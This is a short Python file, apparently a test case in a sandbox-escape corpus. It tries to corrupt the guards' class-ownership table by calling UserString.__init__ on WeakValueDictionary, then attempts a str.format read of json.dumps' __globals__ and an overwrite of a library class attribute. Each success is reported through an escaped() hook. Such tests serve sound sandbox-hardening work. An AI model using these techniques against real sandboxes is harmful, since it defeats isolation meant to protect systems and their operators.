# technique: UserString.__init__() sets self.data, and self may be a class of the library's: a data descriptor of the guest's on WeakValueDictionary answers for the table in which the guards keep whose a class is
# source: reading weakref and collections with the guards' own tables in mind
# goal: str counts as a class of the guest's own: str.format reads past every guard
# impact: exec
import collections
import json
import weakref

table = {}
text = []


class Descriptor:
    def __get__(self, o, cls=None):
        return table

    def __set__(self, o, value):
        pass


class Text(collections.UserString):
    def __getitem__(self, key):
        return descriptor


descriptor = Descriptor()
source = Text('')
source.data = source
for cls in (Descriptor, Text):
    table[id(cls)] = lambda cls=cls: cls
for owned in (str, weakref.WeakValueDictionary, json.JSONEncoder):
    table[id(owned)] = lambda owned=owned: owned
try:
    collections.UserString.__init__(weakref.WeakValueDictionary, source)
except (TypeError, AttributeError):
    pass


class Later:
    pass


if id(Later) in table:
    escaped('the guards note classes in a dictionary of the guest')
try:
    escaped('{0.__globals__}'.format(json.dumps))
except (AttributeError, TypeError):
    pass
try:
    json.JSONEncoder.default = None
    escaped('a class of the library has been changed')
except (AttributeError, TypeError):
    pass
